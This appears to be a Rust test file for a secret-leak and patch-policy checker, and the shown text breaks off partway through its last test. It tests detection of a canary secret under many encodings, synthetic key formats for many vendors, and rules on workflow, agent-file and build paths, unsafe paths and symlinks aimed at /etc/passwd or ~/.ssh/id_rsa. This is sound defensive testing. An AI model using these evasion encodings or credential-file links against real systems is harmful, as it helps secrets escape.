//! What may leave the building: our secrets in any encoding, key formats, paths, sizes, flags.
#![allow(clippy::needless_raw_string_hashes, reason = "expect-test writes them")]

mod edges;
mod published;

use std::collections::HashMap;
use std::fmt::Write as _;

use expect_test::{Expect, expect};
use patchwright_base::redact::Redactor;
use patchwright_config::flags::Common;
use patchwright_config::{file, merge};
use patchwright_git::Oid;
use patchwright_git::tree::{Change, Entry, FileChange, Mode, OverLimit};
use patchwright_policy::{self as policy, Blobs, Judgement, Policy, Unread, secrets};
use secrecy::SecretString;

/// Forty characters that look like nothing else.
const CANARY: &str = "q7RvZ2mXw9KdP4tHs8LbY3nJ6cFgA5eUo1iTkQzM";

fn redactor() -> Redactor {
    Redactor::new([("canary", SecretString::from(CANARY))])
}

fn base64(bytes: &[u8], url_safe: bool) -> String {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    if url_safe { URL_SAFE_NO_PAD.encode(bytes) } else { STANDARD.encode(bytes) }
}

fn hex(text: &str, separator: &str) -> String {
    let bytes: Vec<String> = text.bytes().map(|b| format!("{b:02x}")).collect();
    bytes.join(separator)
}

fn spread(text: &str, separator: &str) -> String {
    let chars: Vec<String> = text.chars().map(String::from).collect();
    chars.join(separator)
}

/// Five characters, a separator, five characters, …
fn in_pieces(text: &str, separator: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let pieces: Vec<String> = chars.chunks(5).map(|piece| piece.iter().collect()).collect();
    pieces.join(separator)
}

fn rot13(text: &str) -> String {
    let turn = |c: char, a: u8| char::from((c as u8 - a + 13) % 26 + a);
    text.chars()
        .map(|c| match c {
            'a'..='z' => turn(c, b'a'),
            'A'..='Z' => turn(c, b'A'),
            other => other,
        })
        .collect()
}

type Encode = fn(&str) -> String;

const ENCODINGS: &[(&str, Encode)] = &[
    ("plain", str::to_owned),
    ("reversed", |s| s.chars().rev().collect()),
    ("rot13", rot13),
    ("base64", |s| base64(s.as_bytes(), false)),
    ("base64 behind one byte", |s| base64(format!("?{s}").as_bytes(), false)),
    ("base64 behind two bytes", |s| base64(format!("??{s}??").as_bytes(), false)),
    ("url-safe base64", |s| base64(format!("ÿþ{s}").as_bytes(), true)),
    ("base64 over lines", |s| {
        let text = base64(s.as_bytes(), false);
        format!("{}\r\n  {}", &text[..9], &text[9..])
    }),
    ("base64 of the reverse", |s| base64(s.chars().rev().collect::<String>().as_bytes(), false)),
    ("hex", |s| hex(s, "")),
    ("upper-case hex", |s| hex(s, "").to_uppercase()),
    ("hex with colons", |s| hex(s, ":")),
    ("hex with 0x", |s| format!("0x{}", hex(s, ", 0x"))),
    ("hex with \\x", |s| format!("\\x{}", hex(s, "\\x"))),
    ("percent", |s| format!("%{}", hex(s, "%"))),
    ("half percent", |s| {
        s.char_indices()
            .map(|(at, c)| if at % 2 == 0 { format!("%{:02X}", c as u8) } else { c.to_string() })
            .collect()
    }),
    ("json escapes", |s| format!("\\u00{}", hex(s, "\\u00"))),
    ("html entities", |s| format!("&#x{};", hex(s, ";&#x"))),
    ("one a line", |s| spread(s, "\n")),
    ("one a line in a diff", |s| spread(s, "\n+")),
    ("one a line with CRLF", |s| spread(s, "\r\n")),
    ("one a line in JSON", |s| spread(s, "\\n")),
    ("base64 over lines in JSON", |s| {
        let text = base64(s.as_bytes(), false);
        format!("{}\\n{}\\r\\n{}", &text[..5], &text[5..9], &text[9..])
    }),
    ("hex over lines in JSON", |s| spread(&hex(s, ""), "\\n")),
    ("hex over lines in a diff", |s| spread(&hex(s, ""), "\n+")),
    ("base64 over lines in a diff", |s| in_pieces(&base64(s.as_bytes(), false), "\n+")),
    ("base64 over removed lines", |s| in_pieces(&base64(s.as_bytes(), false), "\n-")),
    ("base64 over lines in a diff in JSON", |s| in_pieces(&base64(s.as_bytes(), false), "\\n+")),
    ("base64 as a list", |s| in_pieces(&base64(s.as_bytes(), false), "', '")),
    ("json escapes in JSON", |s| format!("\\\\u00{}", hex(s, "\\\\u00"))),
    ("octal", |s| s.bytes().map(|b| format!("\\{b:03o}")).collect::<Vec<_>>().concat()),
    ("separated by spaces", |s| spread(s, " ")),
    ("separated by letters", |s| spread(s, "x")),
    ("as a list", |s| spread(s, "', '")),
    ("UTF-16", |s| spread(s, "\0")),
];

#[test]
fn finds_twelve_characters_of_a_secret_in_every_encoding_and_place() {
    let redactor = redactor();
    let parts = [CANARY, &CANARY[7..], &CANARY[..12], &CANARY[14..26], &CANARY[28..]];
    let mut missed = Vec::new();
    for (name, encode) in ENCODINGS {
        for part in parts {
            for (before, after) in [("", ""), ("x = '", "'\n"), ("one\ntwo ", " three"), ("~", "~")]
            {
                let text = format!("{before}{}{after}", encode(part));
                if redactor.scan(text.as_bytes()).is_empty() {
                    missed.push(format!("{name}: {text}"));
                }
                let redacted = redactor.redact(&text);
                if redacted.contains(part) || !redactor.scan(redacted.as_bytes()).is_empty() {
                    missed.push(format!("{name} is not redacted: {redacted}"));
                }
            }
        }
    }
    assert_eq!(missed, Vec::<String>::new());
}

#[test]
fn a_text_in_pieces_is_searched_as_the_whole_is() {
    let redactor = redactor();
    let mut wrong = Vec::new();
    for (name, encode) in ENCODINGS {
        let text = format!("one\ntwo {}\nthree", encode(CANARY));
        let whole = redactor.scan(text.as_bytes());
        for size in [1, 2, 3, 17, 64, 4096] {
            let pieces = |take: &mut dyn FnMut(&[u8])| -> Result<(), Unread> {
                text.as_bytes().chunks(size).for_each(take);
                Ok(())
            };
            match redactor.first_in(&pieces) {
                Ok(Some(hit)) if hit.line == 2 && hit.secret == "canary" => {}
                other => wrong.push(format!("{name} in pieces of {size}: {other:?}")),
            }
            if size == 4096 && redactor.first_in(&pieces) != Ok(whole.first().cloned()) {
                wrong.push(format!("{name} differs from the whole"));
            }
            let clean = |take: &mut dyn FnMut(&[u8])| -> Result<(), Unread> {
                let text = encode(&CANARY[..9]);
                text.as_bytes().chunks(size).for_each(take);
                Ok(())
            };
            if redactor.first_in(&clean) != Ok(None) {
                wrong.push(format!("{name} in pieces of {size} finds nine characters"));
            }
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
    assert_eq!(redactor.first_in(&|_: &mut dyn FnMut(&[u8])| Err(Unread)), Err(Unread));
}

#[test]
fn what_a_page_or_a_string_escapes_is_found_in_short_secrets_too() {
    let secrets = [("page", "Tr&ub<ado\"ur"), ("string", "pa\"s\\s/x")];
    let redactor = Redactor::new(secrets.map(|(n, v)| (n, SecretString::from(v))));
    for text in ["Tr&amp;ub&lt;ado&quot;ur", "Tr&#38;ub&#x3c;ado&#34;ur", r#"pa\"s\\s\/x"#] {
        assert!(!redactor.scan(text.as_bytes()).is_empty(), "{text}");
        assert!(redactor.redact(text).contains("***"), "{text}");
    }
    for text in ["Tr&amp;ub", r#"pa\"s"#, "&amp;&lt;&quot;"] {
        assert_eq!(redactor.redact(text), text);
    }
}

#[test]
fn eleven_characters_are_not_enough() {
    assert_eq!(redactor().scan(&CANARY.as_bytes()[..11]), []);
}

#[test]
fn a_hit_names_the_secret_the_encoding_and_the_line_and_nothing_else() {
    let text = format!("one\ntwo\nkey: {}\n", hex(CANARY, ""));
    expect![[r#"
        [
            Hit {
                secret: "canary",
                encoding: "hex",
                offset: 13,
                line: 3,
            },
        ]
    "#]]
    .assert_debug_eq(&redactor().scan(text.as_bytes()));
}

#[test]
fn debug_prints_nothing_of_the_secrets() {
    assert_eq!(format!("{:?}", redactor()), "Redactor");
}

#[test]
fn redacts_what_is_secret_and_leaves_the_rest() {
    let redactor = redactor();
    let cases = [
        (format!("key {CANARY} end"), "key *** end"),
        (format!("ünï {} ©", &CANARY[5..25]), "ünï *** ©"),
        (format!("{CANARY}{CANARY}"), "******"),
        ("nothing here".to_owned(), "nothing here"),
        (String::new(), ""),
    ];
    for (text, expected) in cases {
        assert_eq!(redactor.redact(&text), expected);
    }
}

#[test]
fn short_secrets_count_whole_and_tiny_ones_not_at_all() {
    let secrets = [("short", "hunter22x"), ("tiny", "abc12")];
    let redactor = Redactor::new(secrets.map(|(n, v)| (n, SecretString::from(v))));
    let names = |text: &str| -> Vec<String> {
        redactor.scan(text.as_bytes()).into_iter().map(|hit| hit.secret).collect()
    };
    assert_eq!(names("the password is hunter22x."), ["short"]);
    assert_eq!(names(&base64(b"hunter22x", false)), ["short"]);
    assert_eq!(names("hunter22 abc12"), Vec::<String>::new());
}

#[test]
fn ordinary_text_has_no_secrets_in_it() {
    let pem_body = "MIIEpAIBAAKCAQEAwJ8s9Zq3vYc1LxT0b7Rk2uHn5mWdE4fGiOjXaPyQtS6lBzVK";
    let pem = format!(
        "-----BEGIN RSA {}\n{pem_body}\n-----END RSA {}",
        "PRIVATE KEY-----", "PRIVATE KEY-----"
    );
    let secrets = [
        ("openai", format!("sk-proj-{CANARY}{CANARY}")),
        ("anthropic", format!("sk-ant-api03-{CANARY}")),
        ("github", format!("github_pat_11{CANARY}")),
        ("app", pem),
        ("jwt", format!("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{CANARY}.{CANARY}")),
        ("entra", format!("eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsIng1dCI6I{CANARY}.{CANARY}")),
        ("bedrock", format!("bedrock-api-key-{CANARY}")),
        ("dull", "------------------------".to_owned()),
    ];
    let redactor = Redactor::new(secrets.map(|(n, v)| (n, SecretString::from(v))));
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let files =
        ["crates/base/src/redact.rs", "crates/policy/src/secrets.rs", "SECURITY.md", "Cargo.lock"];
    let mut text: Vec<String> =
        files.iter().map(|file| fs_err::read_to_string(root.join(file)).unwrap()).collect();
    text.push("eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9 bedrock-api-key-…".to_owned());
    text.push("sk-ant-api03-… github_pat_11… sk-proj-… -----BEGIN RSA PRIVATE KEY-----".to_owned());
    text.push("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9 --------------------".to_owned());
    for text in text {
        assert_eq!(redactor.scan(text.as_bytes()), []);
        assert_eq!(redactor.redact(&text), text);
    }
}

#[test]
fn finds_the_middle_of_a_private_key_but_not_its_armour() {
    let body = "MIIEpAIBAAKCAQEAwJ8s9Zq3vYc1LxT0b7Rk2uHn5mWdE4fGiOjXaPyQtS6lBzVK";
    let armour = |word: &str| format!("-----{word} PRIVATE {}-----", "KEY");
    let pem = format!("{}\n{body}\n{body}\n{}", armour("BEGIN"), armour("END"));
    let redactor = Redactor::new([("app", SecretString::from(pem))]);
    assert!(!redactor.scan(&body.as_bytes()[20..40]).is_empty());
    assert_eq!(redactor.scan(armour("BEGIN").as_bytes()), []);
}

/// Characters of an alphabet in an order without a pattern; keys are put together here so that no
/// scanner takes this file for a leak.
fn noise(length: usize, alphabet: &str) -> String {
    let alphabet: Vec<char> = alphabet.chars().collect();
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap()
    };
    (0..length).map(|_| alphabet[next() % alphabet.len()]).collect()
}

const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const HEX: &str = "0123456789abcdef";
const BECH: &str = "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L";

#[expect(clippy::too_many_lines, reason = "one row for each format")]
fn examples() -> Vec<(&'static str, String)> {
    let an = |n| noise(n, ALNUM);
    let hx = |n| noise(n, HEX);
    vec![
        ("aws-access-key", format!("AKIA{}", noise(16, UPPER))),
        ("aws-access-key", format!("ASIA{}", noise(16, UPPER))),
        ("aws-secret-key", format!("aws_secret_access_key = {}", an(40))),
        ("github-token", format!("ghp_{}", an(36))),
        ("github-token", format!("gho_{}", an(36))),
        ("github-token", format!("ghu_{}", an(36))),
        ("github-token", format!("ghs_{}", an(36))),
        ("github-token", format!("ghr_{}", an(76))),
        ("github-pat", format!("github_pat_{}_{}", an(22), an(59))),
        ("gitlab-token", format!("glpat-{}", an(20))),
        ("openai-key", format!("sk-{}T3BlbkFJ{}", an(20), an(20))),
        ("openai-project-key", format!("sk-proj-{}", an(90))),
        ("anthropic-key", format!("sk-ant-api03-{}AA", an(93))),
        ("openrouter-key", format!("sk-or-v1-{}", hx(64))),
        ("google-api-key", format!("AIza{}", an(35))),
        ("google-oauth-secret", format!("GOCSPX-{}", an(28))),
        ("google-oauth-token", format!("ya29.{}", an(60))),
        (
            "slack-token",
            format!("xoxb-{}-{}-{}", noise(12, "1234567890"), noise(12, "1234567890"), an(24)),
        ),
        (
            "slack-token",
            format!("xoxp-{}-{}-{}", noise(12, "1234567890"), noise(12, "1234567890"), hx(32)),
        ),
        (
            "slack-webhook",
            format!("https://hooks.slack.com/services/T{}/B{}/{}", an(8), an(8), an(24)),
        ),
        (
            "discord-webhook",
            format!("https://discord.com/api/webhooks/{}/{}", noise(18, "1234567890"), an(68)),
        ),
        ("telegram-token", format!("{}:AA{}", noise(9, "123456789"), an(33))),
        ("stripe-key", format!("sk_live_{}", an(24))),
        ("stripe-key", format!("rk_live_{}", an(99))),
        ("stripe-webhook", format!("whsec_{}", an(32))),
        ("npm-token", format!("npm_{}", an(36))),
        ("pypi-token", format!("pypi-AgEIcHlwaS5vcmc{}", an(70))),
        ("crates-token", format!("cio{}", an(32))),
        ("rubygems-token", format!("rubygems_{}", hx(48))),
        ("docker-token", format!("dckr_pat_{}", an(27))),
        ("sendgrid-key", format!("SG.{}.{}", an(22), an(43))),
        ("mailgun-key", format!("key-{}", hx(32))),
        ("twilio-key", format!("SK{}", hx(32))),
        ("shopify-token", format!("shpat_{}", hx(32))),
        ("digitalocean-token", format!("dop_v1_{}", hx(64))),
        ("huggingface-token", format!("hf_{}", an(34))),
        ("databricks-token", format!("dapi{}", hx(32))),
        ("linear-key", format!("lin_api_{}", an(40))),
        ("vault-token", format!("hvs.{}", an(95))),
        ("age-key", format!("AGE-SECRET-KEY-1{}", noise(58, BECH))),
        ("azure-storage-key", format!("AccountName=a;AccountKey={}==;", an(86))),
        ("azure-client-secret", format!("{}8Q~{}", an(3), an(34))),
        ("private-key", format!("-----BEGIN OPENSSH {}\n{}\n", "PRIVATE KEY-----", an(70))),
        ("private-key", format!("-----BEGIN {}\n{}\n", "PRIVATE KEY-----", an(64))),
        ("private-key", format!("-----BEGIN PGP {}\n\n{}\n", "PRIVATE KEY BLOCK-----", an(64))),
        (
            "google-service-account",
            format!(r#"{{"private_key": "-----BEGIN {}\n{}\n"#, "PRIVATE KEY-----", an(200))
                .replace('\n', "\\n"),
        ),
        ("jwt", format!("eyJ{}.eyJ{}.{}", an(20), an(40), an(43))),
        ("url-password", format!("postgres://app:{}@db.internal/app", an(20))),
    ]
}

#[test]
fn every_key_format_is_found_in_the_vendors_form() {
    let mut missed = Vec::new();
    for (id, key) in examples() {
        let text = format!("# settings\nvalue = \"{key}\"\n");
        if !secrets::find_keys(&text).iter().any(|(format, _)| format.id == id) {
            missed.push(format!("{id}: {key}"));
        }
    }
    assert_eq!(missed, Vec::<String>::new());
    let shown: Vec<&str> = examples().iter().map(|(id, _)| *id).collect();
    let unshown: Vec<&str> =
        secrets::KEY_FORMATS.iter().map(|f| f.id).filter(|id| !shown.contains(id)).collect();
    assert_eq!(unshown, ["slack-app-token", "atlassian-token"]);
}

#[test]
fn placeholders_and_ordinary_text_are_no_keys() {
    let rows = [
        format!("AKIA{}", "IOSFODNN7EXAMPLE"),
        format!("ghp_{}", "x".repeat(36)),
        format!("ghp_{}", "abcdefghijklmnopqrstuvwxyz0123456789"),
        "sk-ant-api03-your-key-here".to_owned(),
        "sk-proj-...".to_owned(),
        "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx".to_owned(),
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n".to_owned(),
        format!("-----BEGIN {}\n...\n-----END {}", "PRIVATE KEY-----", "PRIVATE KEY-----"),
        "postgres://user:password@localhost/db".to_owned(),
        "https://user:${PASSWORD_FROM_ENV}@example.com".to_owned(),
        "commit 6f1ed002ab5595859014ebf0951522d9f7c2d9a4".to_owned(),
        "integrity sha512-q7RvZ2mXw9KdP4tHs8LbY3nJ6cFgA5eUo1iTkQzM==".to_owned(),
        "task-specific skill-based risk-management".to_owned(),
    ];
    for text in rows {
        let found: Vec<&str> =
            secrets::find_keys(&text).iter().map(|(format, _)| format.id).collect();
        assert_eq!(found, Vec::<&str>::new(), "{text}");
    }
}

/// A last part that is short says nothing about the key; a key that is two letters in turn is an example.
#[test]
fn a_key_may_end_in_a_short_part_and_does_not_repeat_itself() {
    let found = |text: &str| !secrets::find_keys(text).is_empty();
    assert!(found(&format!("token = glpat-{}-aaaa\n", noise(24, ALNUM))));
    assert!(found(&format!("token = ghp_{}\n", noise(36, ALNUM))));
    assert!(!found(&format!("token = ghp_{}\n", "a1".repeat(18))));
}

/// A change made of texts.
#[derive(Default)]
struct Draft {
    files: Vec<FileChange>,
    beyond: OverLimit,
    blobs: HashMap<Oid, Vec<u8>>,
}

impl Draft {
    fn blob(&mut self, mode: Mode, content: &[u8]) -> Entry {
        let oid = Oid(git2::Oid::hash_object(git2::ObjectType::Blob, content).unwrap());
        self.blobs.insert(oid, content.to_vec());
        Entry { mode, oid, size: content.len() as u64 }
    }

    fn file(mut self, path: &str, old: Option<&str>, new: Option<&str>) -> Draft {
        let old = old.map(|text| self.blob(Mode::File, text.as_bytes()));
        let new = new.map(|text| self.blob(Mode::File, text.as_bytes()));
        self.entry(path, old, new);
        self
    }

    fn link(mut self, path: &str, target: &str) -> Draft {
        let new = self.blob(Mode::Symlink, target.as_bytes());
        self.entry(path, None, Some(new));
        self
    }

    fn entry(&mut self, path: &str, old: Option<Entry>, new: Option<Entry>) {
        let path = path.to_owned();
        let file = FileChange { path, old, new, added_lines: 1, removed_lines: 0, binary: false };
        self.files.push(file);
    }

    fn change(&self) -> Change {
        let zero = Oid(git2::Oid::ZERO_SHA1);
        Change {
            base: zero,
            tree: zero,
            files: self.files.clone(),
            refused: Vec::new(),
            beyond: self.beyond,
            artefacts: Vec::new(),
            ignored: Vec::new(),
        }
    }

    fn judge(&self, policy: &Policy, outbound: &[(&str, &str)]) -> Judgement {
        policy::check(policy, &self.change(), self, &redactor(), outbound)
    }

    /// The rules that are violated, with what has no path as `-`.
    fn violated(&self, policy: &Policy) -> Vec<String> {
        let violations = self.judge(policy, &[]).violations.into_iter();
        let shown = violations.map(|v| format!("{} {}", v.rule, v.path.as_deref().unwrap_or("-")));
        shown.collect()
    }
}

impl Blobs for Draft {
    fn read(&self, oid: Oid) -> Option<Vec<u8>> {
        self.blobs.get(&oid).cloned()
    }

    fn stream(&self, oid: Oid, take: &mut dyn FnMut(&[u8])) -> Result<(), Unread> {
        self.blobs.get(&oid).ok_or(Unread)?.chunks(1000).for_each(take);
        Ok(())
    }
}

/// One line for everything in a judgement.
fn shown(judgement: &Judgement) -> String {
    let mut out = String::new();
    for (kind, list) in [("violation", &judgement.violations), ("flag", &judgement.flags)] {
        for v in list {
            let path = v.path.as_deref().unwrap_or("-");
            writeln!(out, "{kind} {} {path:?}: {}", v.rule, v.message).unwrap();
        }
    }
    for held in &judgement.held_back {
        writeln!(out, "held back {} {:?}", held.rule, held.file.path).unwrap();
    }
    out + &format!("draft: {}\n", judgement.wants_draft())
}

fn check(draft: &Draft, expected: &Expect) {
    expected.assert_eq(&shown(&draft.judge(&Policy::default(), &[])));
}

/// Paths, and what is found about a change of each.
const PATHS: &[(&str, &str)] = &[
    (".github/workflows/ci.yml", "held path.workflow"),
    (".GitHub/Workflows/CI.yml", "held path.workflow"),
    (".github/workflows/deep/er.yml", "held path.workflow"),
    (".github/wor\u{200c}kflows/ci.yml", "held path.workflow"),
    (".github/actions/x/action.yml", "held path.workflow"),
    ("action.yml", "held path.workflow"),
    ("action.yaml", "held path.workflow"),
    ("ci/setup/action.yml", "held path.workflow"),
    ("ci/setup/Action.YAML", "held path.workflow"),
    (".github/workflows", "held path.workflow"),
    (".GitHub", "held path.workflow"),
    (".github/actions", "held path.workflow"),
    (".forgejo/workflows", "held path.workflow"),
    (".github/setup/Dockerfile", "held path.workflow"),
    ("ci/setup/Dockerfile", "path.protected.build"),
    ("docs/.github.md", ""),
    ("docs/transaction.yml", ""),
    ("docs/action.yml/index.md", ""),
    (".github/CODEOWNERS", "path.protected.owners"),
    (".github/dependabot.yml", "path.protected.github"),
    ("CODEOWNERS", "path.protected.owners"),
    ("AGENTS.md", "path.protected.agents"),
    ("sub/dir/agents.MD", "path.protected.agents"),
    ("CLAUDE.md", "path.protected.agents"),
    ("pkg/.cursor/rules/a.md", "path.protected.agents"),
    (".vscode/tasks.json", "path.protected.editor"),
    (".devcontainer/devcontainer.json", "path.protected.editor"),
    (".husky/pre-push", "path.protected.hooks"),
    (".pre-commit-config.yaml", "path.protected.hooks"),
    (".gitattributes", "path.protected.git"),
    (".gitmodules", "path.protected.git"),
    ("Makefile", "path.protected.build"),
    ("crates/a/build.rs", "path.protected.build"),
    ("setup.py", "path.protected.build"),
    ("pom.xml", "path.protected.build"),
    ("app/build.gradle", "path.protected.build"),
    ("app/build.gradle.kts", "path.protected.build"),
    ("settings.gradle.kts", "path.protected.build"),
    ("CMakeLists.txt", "path.protected.build"),
    ("Rakefile", "path.protected.build"),
    ("calc.gemspec", "path.protected.build"),
    ("meson.build", "path.protected.build"),
    ("tox.ini", "path.protected.build"),
    ("noxfile.py", "path.protected.build"),
    ("pkg/BUILD", "path.protected.build"),
    ("BUILD.bazel", "path.protected.build"),
    ("tools/defs.bzl", "path.protected.build"),
    ("Taskfile.yml", "path.protected.build"),
    ("gulpfile.js", "path.protected.build"),
    ("docs/building.md", ""),
    ("deno.lock", "path.protected.lock"),
    ("flake.lock", "path.protected.lock"),
    ("mix.lock", "path.protected.lock"),
    ("pdm.lock", "path.protected.lock"),
    ("ios/Podfile.lock", "path.protected.lock"),
    ("src/packages.lock.json", "path.protected.lock"),
    ("gradle.lockfile", "path.protected.lock"),
    (".clinerules", "path.protected.agents"),
    (".clinerules/a.md", "path.protected.agents"),
    (".roo/rules/a.md", "path.protected.agents"),
    (".kiro/steering/a.md", "path.protected.agents"),
    (".junie/guidelines.md", "path.protected.agents"),
    ("Cargo.lock", "path.protected.lock"),
    ("web/package-lock.json", "path.protected.lock"),
    ("Cargo.toml", "path.note"),
    ("src/main.rs", ""),
    ("src/build.rs.txt", ""),
    ("README.md", ""),
    ("a/../b", "violation path.unsafe"),
    ("/etc/passwd", "violation path.unsafe"),
    ("a//b", "violation path.unsafe"),
    // What is in the base already may be changed.
    ("a\\b", ""),
    (".../b", ""),
    ("a\nb", "violation path.unsafe"),
    ("a\u{1b}[2Jb", "violation path.unsafe"),
    (".git/hooks/pre-push", "violation path.unsafe"),
    ("sub/.GIT/config", "violation path.unsafe"),
    (".g\u{200c}it/config", "violation path.unsafe"),
    ("git~1/config", "violation path.unsafe"),
    (".git . /config", "violation path.unsafe"),
    (".gitignore", ""),
];

#[test]
fn every_path_has_its_rule() {
    for &(path, expected) in PATHS {
        let draft = Draft::default().file(path, Some("old\n"), Some("new\n"));
        let judgement = draft.judge(&Policy::default(), &[]);
        let mut got: Vec<String> =
            judgement.violations.iter().map(|v| format!("violation {}", v.rule)).collect();
        got.extend(judgement.held_back.iter().map(|held| format!("held {}", held.rule)));
        got.extend(judgement.flags.iter().map(|flag| flag.rule.clone()));
        assert_eq!(got.join(", "), expected, "{path:?}");
    }
}

#[test]
fn a_new_path_is_not_one_that_another_system_takes_for_another() {
    for path in ["a\\b", ".../b", "a/. ./b"] {
        let draft = Draft::default().file(path, None, Some("new\n"));
        let violations = draft.judge(&Policy::default(), &[]).violations;
        assert_eq!(violations.first().map(|it| it.rule.as_str()), Some("path.unsafe"), "{path}");
    }
}

#[test]
fn links_stay_inside() {
    let rows = [
        ("a/link", "file", true),
        ("a/link", "../file", true),
        ("a/b/link", "../../file", true),
        ("link", "a/../b", true),
        ("link", "../file", false),
        ("a/link", "../../etc/passwd", false),
        ("link", "a/../../b", false),
        ("link", "/etc/passwd", false),
        ("link", "~/.ssh/id_rsa", false),
        ("link", "C:\\x", false),
        ("link", ".git/config", false),
        ("a/link", "../.GIT/hooks", false),
        ("link", "", false),
    ];
    for (path, target, inside) in rows {
        let judgement = Draft::default().link(path, target).judge(&Policy::default(), &[]);
        let rules: Vec<&str> = judgement.violations.iter().map(|v| v.rule.as_str()).collect();
        let expected: &[&str] = if inside { &[] } else { &["path.symlink-outside"] };
        assert_eq!(rules, expected, "{path} → {target}");
    }
}

#[test]
fn new_submodules_and_twin_names_are_violations() {
    let mut draft = Draft::default().file("Readme.md", None, Some("a\n"));
    draft = draft.file("README.md", None, Some("b\n"));
    draft = draft.file("caf\u{e9}", None, Some("c\n")).file("cafe\u{301}", None, Some("d\n"));
    let link = draft.blob(Mode::Gitlink, b"commit");
    draft.entry("vendor/lib", None, Some(link));
    draft.entry("vendor/same", Some(link), Some(link));
    check(
        &draft,
        &expect![[r#"
            violation path.gitlink "vendor/lib": adds or moves a submodule
            violation path.collision "README.md": is the same file as `Readme.md` on many systems
            violation path.collision "cafe\u{301}": is the same file as `café` on many systems
            draft: false
        "#]],
    );
}

#[test]
fn a_secret_of_ours_blocks_and_is_not_echoed() {
    let encoded = format!("fixture = '{}'\n", base64(CANARY.as_bytes(), false));
    let draft = Draft::default().file("tests/data.py", None, Some(&encoded)).file(
        &format!("dir/{}", &CANARY[3..20]),
        None,
        Some("x\n"),
    );
    let outbound = [("commit message", "fix"), ("branch", &CANARY[..15])];
    let judgement = draft.judge(&Policy::default(), &outbound);
    expect![[r#"
        violation secret.own "tests/data.py": line 1 contains `canary` (base64)
        violation secret.own "-": the name of a file contains `canary` (plain)
        violation secret.own "-": the branch contains `canary` (plain)
        draft: false
    "#]]
    .assert_eq(&shown(&judgement));
    assert_eq!(redactor().scan(format!("{judgement:?}").as_bytes()), []);
}

#[test]
fn keys_of_others_count_in_added_lines_outside_allowed_paths() {
    let key = format!("ghp_{}", noise(36, ALNUM));
    let old = format!("token = '{key}'\n");
    let new = format!("a\nb\ntoken = '{key}'\nmore\n");
    let draft = Draft::default()
        .file("src/old.py", Some(&old), Some(&new))
        .file("src/new.py", None, Some(&new))
        .file("tests/fixtures/new.py", None, Some(&new));
    let policy =
        Policy { secret_allow_paths: vec!["tests/fixtures/".to_owned()], ..Policy::default() };
    expect![[r#"
        violation secret.github-token "src/new.py": line 3 has the form of a github-token
        draft: false
    "#]]
    .assert_eq(&shown(&draft.judge(&policy, &[])));
}

#[test]
fn too_much_is_too_much() {
    let mut many = Draft::default();
    for at in 0..101 {
        many = many.file(&format!("src/{at}.txt"), None, Some("x\n"));
    }
    check(
        &many,
        &expect![[r#"
            violation size.files "-": the change has 101 files; the limit is 100
            draft: false
        "#]],
    );
    let mut big = Draft::default();
    let new = Entry { size: 4_194_312, ..big.blob(Mode::File, b"what is in it does not matter\n") };
    big.entry("big.txt", None, Some(new));
    check(
        &big,
        &expect![[r#"
            violation size.bytes "-": the changed files have 4194312 bytes, 4194312 of them in `big.txt`; limit 4194304
            draft: false
        "#]],
    );
    // As much as the limits say is not too much.
    many.files.truncate(100);
    assert_eq!(many.violated(&Policy::default()), Vec::<String>::new());
    let most = Policy { max_bytes: 4_194_312, ..Policy::default() };
    assert_eq!(big.violated(&most), Vec::<String>::new());
}

#[test]
fn our_own_secrets_are_looked_for_whatever_the_size() {
    let hidden = format!("{}\n{}\n", "0123456\n".repeat(3000), base64(CANARY.as_bytes(), false));
    let zeros = format!("{}\0{CANARY}", "\0\u{1}".repeat(6000));
    let small = Policy { max_files: 2, max_bytes: 10_000, ..Policy::default() };
    let rows = [
        ("a file at the end of many", vec!["a\n", "b\n", CANARY], "size.files - secret.own 2"),
        ("the end of a large file", vec![hidden.as_str()], "size.bytes - secret.own 0"),
        ("a large binary file", vec![zeros.as_str()], "size.bytes - secret.own 0"),
        ("many files without", vec!["a\n", "b\n", "c\n"], "size.files -"),
        ("a large file without", vec![&hidden[..24_000]], "size.bytes -"),
        ("a large binary file without", vec![&zeros[..12_000]], "size.bytes -"),
        ("little", vec!["a\n", "b\n"], ""),
    ];
    for (name, contents, expected) in rows {
        let draft = contents.iter().enumerate().fold(Draft::default(), |draft, (at, content)| {
            draft.file(&at.to_string(), None, Some(content))
        });
        assert_eq!(draft.violated(&small).join(" "), expected, "{name}");
        assert_eq!(draft.judge(&small, &[]).leaks(), expected.contains("secret"), "{name}");
    }
}

#[test]
fn what_cannot_be_searched_counts_as_a_leak() {
    let small = Policy { max_files: 1, ..Policy::default() };
    let mut draft = Draft::default().file("a", None, Some("a\n")).file("b", None, Some("b\n"));
    assert!(!draft.judge(&small, &[]).leaks());
    draft.blobs.retain(|_, content| content == b"a\n");
    let expected = ["size.files -", "secret.unsearched b"];
    assert_eq!(draft.violated(&small), expected);
    assert!(draft.judge(&small, &[]).leaks());
    // What was in the base may be missing: it does not leave with the change.
    let mut draft = Draft::default().file("a", Some("old\n"), Some("a\n"));
    draft.blobs.retain(|_, content| content == b"a\n");
    assert_eq!(draft.violated(&Policy::default()), ["content.unreadable a"]);
    assert!(!draft.judge(&Policy::default(), &[]).leaks());
}

#[test]
fn allowed_workflows_and_actions_are_still_drafts() {
    let policy = Policy { allow_workflows: true, ..Policy::default() };
    for path in [".github/workflows/a.yml", "ci/setup/action.yml", "action.yaml", ".gitea/a.yml"] {
